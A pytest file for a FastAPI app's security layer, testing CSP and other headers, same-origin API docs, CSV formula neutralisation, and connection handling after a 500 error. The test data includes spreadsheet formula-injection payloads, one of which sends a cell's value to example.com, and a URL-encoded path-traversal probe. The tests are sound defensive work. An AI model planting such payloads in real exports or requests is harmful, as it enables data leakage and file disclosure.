"""What every response carries: the security headers (a strict CSP, nosniff, a referrer
policy, no-store but on static assets), the API viewer from this origin only, CSV cells that
a spreadsheet cannot run as formulas, and a 500 that leaves the connection open."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pytest
import sqlalchemy as sa
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient

from rbm.domain.workflow import Role
from rbm.store.tables import TABLES
from rbm.web.jobs import Job
from rbm.web.spreadsheet import neutralised
from tests.browser import chromium
from tests.web.conftest import PASSWORD, START, Client

ClientFor = Callable[[Role | None], Client]


def _directives(header: str) -> dict[str, str]:
    parts = (part.strip().split(" ", 1) for part in header.split(";") if part.strip())
    return {part[0]: part[1] if len(part) > 1 else "" for part in parts}


def test_pages_api_answers_and_refusals_carry_the_security_headers(
    client_for: ClientFor,
) -> None:
    pia, anonymous = client_for(Role.PLANNER), client_for(None)
    answers = [pia.get("/"), pia.get("/api/me"), anonymous.get("/api/me"), pia.get("/nowhere")]
    for response in answers:
        policy = _directives(response.headers["content-security-policy"])
        assert policy["frame-ancestors"] == "'none'"
        assert policy["default-src"] == "'none'"
        assert "unsafe-inline" not in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        assert response.headers["cache-control"] == "no-store"
    assert answers[2].status_code == 401 and answers[3].status_code == 404


def test_strict_transport_security_is_sent_over_https_only(app: FastAPI) -> None:
    over_https = TestClient(app, base_url="https://testserver").get("/login")
    assert over_https.headers["strict-transport-security"] == "max-age=31536000"
    assert "strict-transport-security" not in TestClient(app).get("/login").headers


def test_static_assets_keep_their_caching(client_for: ClientFor) -> None:
    css = client_for(None).get("/static/web.css")
    assert css.headers["cache-control"] == "max-age=3600"
    assert css.headers["x-content-type-options"] == "nosniff"


def test_the_built_files_keep_their_stricter_policy(app: FastAPI, client_for: ClientFor) -> None:
    pia = client_for(Role.PLANNER)
    folder = app.state.rbm.config.builds / "20260105-090000-abcdef"
    (folder / "en").mkdir(parents=True)
    (folder / "en" / "index.html").write_text("<p>built</p>", encoding="utf-8")
    job = Job("20260105-090000-abcdef", "pia", ("html",), ("en",), folder, START,
              state="done", files=("en/index.html",))  # fmt: skip
    app.state.rbm.jobs._jobs[job.id] = job
    built = pia.get(f"/build/{job.id}/files/en/index.html")
    assert built.status_code == 200
    assert _directives(built.headers["content-security-policy"])["form-action"] == "'none'"


def test_the_job_page_allows_its_own_inline_script_by_hash_only(
    app: FastAPI, client_for: ClientFor
) -> None:
    pia = client_for(Role.PLANNER)
    job = Job("20260105-090000-abcdef", "pia", ("html",), ("en",),
              app.state.rbm.config.builds / "x", START, state="running", total=3)  # fmt: skip
    app.state.rbm.jobs._jobs[job.id] = job
    page = pia.get(f"/build/{job.id}")
    scripts = re.findall(r"<script>(.*?)</script>", page.text, re.DOTALL)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    policy = _directives(page.headers["content-security-policy"])
    assert policy["script-src"] == f"'self' 'sha256-{digest}'"
    assert policy["frame-ancestors"] == "'none'"


def test_the_api_viewer_loads_nothing_from_another_origin(client_for: ClientFor) -> None:
    client = client_for(None)
    viewer = client.get("/api/docs")
    assert viewer.status_code == 200
    sources = re.findall(r'(?:src|href)="([^"]+)"', viewer.text)
    assert sources and all(source.startswith("/api/docs/") for source in sources)
    for source in sources:
        asset = client.get(source)
        assert asset.status_code == 200, source
        assert asset.headers["cache-control"].startswith("public")
    assert "SwaggerUIBundle" in client.get("/api/docs/swagger-ui-bundle.js").text
    assert client.get("/api/docs/index.html").status_code == 404  # listed files only
    assert client.get("/api/docs/..%2F..%2Fpyproject.toml").status_code == 404


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://example.com","x")', '\'=HYPERLINK("http://example.com","x")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("-1234.50", "-1234.50"),  # a negative figure stays a number
        ("+12", "+12"),
        ("-1e3", "-1e3"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_cells_that_would_start_a_formula_are_neutralised(cell: str, shown: str) -> None:
    assert neutralised(cell) == shown


def test_the_budget_csv_serves_no_formula(app: FastAPI, client_for: ClientFor) -> None:
    table = TABLES["budget_facts"]
    formula = '=HYPERLINK("http://example.com/?x="&A1,"click")'
    with app.state.rbm.engine.begin() as connection:
        first = connection.execute(sa.select(sa.func.min(table.c.row_id))).scalar_one()
        connection.execute(
            sa.update(table)
            .where(table.c.row_id == first)
            .values(funding=formula, amount=Decimal("-1234.5"))
        )
    pia = client_for(Role.PLANNER)
    for url in ("/finance/budget.csv", "/api/finance/budget.csv"):
        rows = list(csv.DictReader(io.StringIO(pia.get(url).text)))
        edited = [row for row in rows if row["funding"].endswith(formula)]
        assert len(edited) == 1, url
        assert edited[0]["funding"] == "'" + formula
        assert edited[0]["amount"] == "-1234.5"
        starts = {row[name][:1] for row in rows for name in row if name != "amount"}
        assert not starts & set("=+-@\t\r")


@pytest.fixture
def live(app: FastAPI) -> Iterator[tuple[FastAPI, int]]:
    """The app on a free loopback port (uvicorn, as `rbm serve` runs it), in a thread."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started and thread.is_alive():
        time.sleep(0.02)
    yield app, port
    server.should_exit = True
    thread.join(10)


def _exchange(sock: socket.socket, path: str) -> tuple[int, dict[str, str], bytes]:
    """One HTTP/1.1 request on an open connection, and its response."""
    request = f"GET {path} HTTP/1.1\r\nHost: test\r\nAccept-Language: en\r\n\r\n"
    sock.sendall(request.encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        assert chunk, "the server closed the connection"
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    status_line, *lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (line.split(":", 1) for line in lines)}
    while len(body) < int(headers["content-length"]):
        chunk = sock.recv(65536)
        assert chunk, "the server closed the connection"
        body += chunk
    return int(status_line.split()[1]), headers, body


def test_after_a_500_the_connection_stays_open(live: tuple[FastAPI, int]) -> None:
    app, port = live

    def crash() -> None:
        raise RuntimeError("a bug")

    app.add_api_route("/api/crash", crash)
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        status, headers, body = _exchange(sock, "/api/crash")
        assert status == 500
        assert b'"code":"internal"' in body and b"logged" in body  # the catalogue's message
        assert headers["x-content-type-options"] == "nosniff"
        again, _, _ = _exchange(sock, "/api/docs/viewer.js")  # the same connection
        assert again == 200


def test_pages_render_under_the_policy_in_a_browser(
    live: tuple[FastAPI, int], tmp_path: Any
) -> None:
    app, port = live
    base = f"http://127.0.0.1:{port}"
    job = Job("20260105-090000-abcdef", "pia", ("html",), ("en",), tmp_path / "x", START,
              state="running", total=3)  # fmt: skip
    app.state.rbm.jobs._jobs[job.id] = job
    with chromium() as browser:
        page = browser.new_page()
        page.add_init_script(  # what the policy blocks, as the page itself is told
            "window.blocked = []; document.addEventListener('securitypolicyviolation',"
            " e => window.blocked.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        blocked: list[str] = []
        page.goto(f"{base}/login?lang=en")
        page.fill("input[name=name]", "pia")
        page.fill("input[name=password]", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_url(f"{base}/")
        for path in ("/", "/sectors/pt", "/finance", "/build"):
            page.goto(base + path)
            assert page.locator("h1").count() >= 1
            blocked += page.evaluate("() => window.blocked")
        api = f"{base}/api/builds/{job.id}"
        with page.expect_request(api, timeout=30_000):  # the job page's own script polls
            page.goto(f"{base}/build/{job.id}")
        page.goto(f"{base}/api/docs")
        page.wait_for_selector(".swagger-ui .opblock", timeout=30_000)
        page.click(".opblock-summary")  # an operation unfolds
        page.wait_for_selector(".opblock-body")
        blocked += page.evaluate("() => window.blocked")
        assert blocked == []
